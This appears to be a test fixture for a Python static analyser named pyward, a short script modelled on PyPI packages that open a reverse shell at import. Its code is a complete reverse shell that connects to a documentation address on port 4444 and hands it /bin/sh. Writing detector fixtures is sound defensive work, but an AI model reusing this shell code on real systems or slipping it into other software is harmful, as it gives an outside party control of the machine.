# INERT test sample for pyward's static analysis: never run it. Modelled on reverse shells run at import.
# Documented: https://blog.sonatype.com/ (2021-2023 PyPI reverse-shell packages)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, socket, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('192.0.2.7', 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn('/bin/sh')
